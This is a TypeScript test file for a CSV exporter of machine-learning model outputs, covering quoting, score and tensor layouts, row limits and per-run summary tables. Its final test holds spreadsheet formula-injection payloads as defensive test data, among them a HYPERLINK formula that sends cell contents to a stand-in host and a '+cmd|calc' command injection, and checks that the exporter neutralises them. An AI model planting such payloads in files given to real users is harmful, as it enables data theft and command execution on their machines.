import { describe, expect, it } from 'vitest'
import type { Interpretation } from '../base/readings/index.ts'
import { rowOf } from '../base/run-row.ts'
import { defaultOptions } from './contract.ts'
import { csv, longestCsv } from './csv.ts'
import { csvOfRuns } from './csv-runs.ts'
import { csvLine } from './csv-text.ts'
import { floats, output, result, scoresOf } from './fixtures/results.ts'

const make = (...outputs: Parameters<typeof result>[0]) => csv.make(result(outputs), defaultOptions)
const numbers = (rows: number, labels: readonly string[]): Interpretation => ({
  view: 'numbers',
  data: { labels, rows },
})

describe('a line', () => {
  it('is quoted where RFC 4180 asks for it, and where blanks would be lost', () => {
    expect(csvLine(['plain', 'a,b', 'say "so"', 'two\nlines', ' padded ', 0.1, null])).toBe(
      'plain,"a,b","say ""so""","two\nlines"," padded ",0.1,\r\n',
    )
  })
})

describe('the CSV export', () => {
  it('of scores has a line a class, best first, with the raw value', async () => {
    const value = floats([1, 3], [0, 0, Number.NEGATIVE_INFINITY])
    const reading = scoresOf(value, ['a', 'b', 'c, d'], { applied: 'softmax' })
    expect(await make(output(value, [reading]))).toBe(
      'rank,index,label,score,raw\r\n1,0,a,0.5,0\r\n2,1,b,0.5,0\r\n3,2,"c, d",0,-Infinity\r\n',
    )
  })
  it('of a batch of scores has a line a row', async () => {
    const value = floats([2, 2], [0.25, 0.75, 1, 0])
    expect(await make(output(value, [scoresOf(value, ['cat', 'dog'])]))).toBe(
      'row,label,index,score,cat,dog\r\n0,dog,1,0.75,0.25,0.75\r\n1,cat,0,1,1,0\r\n',
    )
  })
  it('of numbers has a line a row', async () => {
    expect(await make(output(floats([2, 1], [9.25, 8]), [numbers(2, ['rings'])]))).toBe(
      'row,rings\r\n0,9.25\r\n1,8\r\n',
    )
  })
  it('of a table of inputs has its columns as the file has them, and the predictions appended', async () => {
    const value = floats([2, 2], [0.25, 0.75, 1, 0])
    const fed = {
      rows: 2,
      columns: [
        { name: 'id', numbers: Float64Array.of(7, 8), texts: ['007', '008'] },
        { name: 'mass, kg', numbers: Float64Array.of(3.5, Number.NaN), texts: null },
        { name: 'label', numbers: null, texts: ['=A1', 'x'] },
      ],
    }
    const made = result([output(value, [scoresOf(value, ['cat', 'dog'])], 'pet')])
    expect(await csv.make({ ...made, table: fed }, defaultOptions)).toBe(
      `id,"mass, kg",label,pet: label,index,score,cat,dog\r\n007,3.5,'=A1,dog,1,0.75,0.25,0.75\r\n008,,x,cat,0,1,1,0\r\n`,
    )
    const other = { ...fed, rows: 3 }
    expect(await csv.make({ ...made, table: other }, defaultOptions)).toMatch(/^row,label,index/)
  })
  it('of any other tensor has a line an element, with its indices', async () => {
    expect(await make(output(floats([1, 2, 2], [1, Number.NaN, 3, -0.5])))).toBe(
      'i0,i1,i2,value\r\n0,0,0,1\r\n0,0,1,NaN\r\n0,1,0,3\r\n0,1,1,-0.5\r\n',
    )
    expect(await make(output({ dtype: 'string', shape: [2], data: ['asm', 'c,cpp'] }))).toBe(
      'i0,value\r\n0,asm\r\n1,"c,cpp"\r\n',
    )
    expect(await make(output({ dtype: 'complex64', shape: [2], data: Float32Array.of(1, 2, 3, 4) }))).toBe(
      'i0,real,imaginary\r\n0,1,2\r\n1,3,4\r\n',
    )
  })
  it('refuses more lines than a spreadsheet opens', async () => {
    const large = output(
      floats(
        [longestCsv + 1],
        Array.from({ length: longestCsv + 1 }, () => 0),
      ),
    )
    expect(csv.fits(large, result([large]))).toBe(false)
    await expect(make(large)).rejects.toMatchObject({
      code: 'known-but-unsupported',
      hint: expect.stringContaining('.npy'),
    })
  })
})

describe('the table of all runs', () => {
  it('has a line a file: the best class, times, and what failed', () => {
    const cat = floats([1, 2], [0.25, 0.75])
    const run = result([output(cat, [scoresOf(cat, ['cat', 'dog'])])])
    expect(
      csvOfRuns([
        { label: 'a,1.jpg', row: rowOf(run), error: null },
        { label: 'b.jpg', row: null, error: { message: 'The file is cut short.' } },
      ]),
    ).toBe(
      'file,label,index,score,backend,run ms,end to end ms,error\r\n"a,1.jpg",dog,1,0.75,wasm,4,10,\r\nb.jpg,,,,,,,The file is cut short.\r\n',
    )
  })
  it('names the output where there are several', () => {
    const run = result([
      output(floats([1, 1], [9.25]), [numbers(1, ['rings'])], 'age'),
      output({ dtype: 'string', shape: [1], data: ['old'] }, [{ view: 'text', data: { rows: ['old'] } }], 'word'),
      output(floats([1, 2, 2], [0, 1, 2, 3]), [], 'map'),
    ])
    expect(csvOfRuns([{ label: 'x.csv', row: rowOf(run), error: null }])).toBe(
      'file,age: rings,word: word,map: min,map: max,map: mean,backend,run ms,end to end ms,error\r\nx.csv,9.25,old,0,3,1.5,wasm,4,10,\r\n',
    )
  })
  it('of nothing has its header', () => expect(csvOfRuns([])).toBe('file,backend,run ms,end to end ms,error\r\n'))
})

it('neutralises texts that a spreadsheet takes for formulas, and leaves numbers alone', () => {
  const hostile = ['=HYPERLINK("http://x"&A1)', '+1+cmd|calc', '@SUM(A1)', '-2+3', '\t=1', '\r=1', '＝1']
  for (const text of hostile)
    expect(
      csvLine([text])
        .replace(/^"/, '')
        .startsWith(`'${text.slice(0, 1)}`),
    ).toBe(true)
  expect(csvLine([-1.5, '-1.5', '+3e-4', 'a=b', "it's", Number.NEGATIVE_INFINITY])).toBe(
    "-1.5,-1.5,+3e-4,a=b,it's,-Infinity\r\n",
  )
})
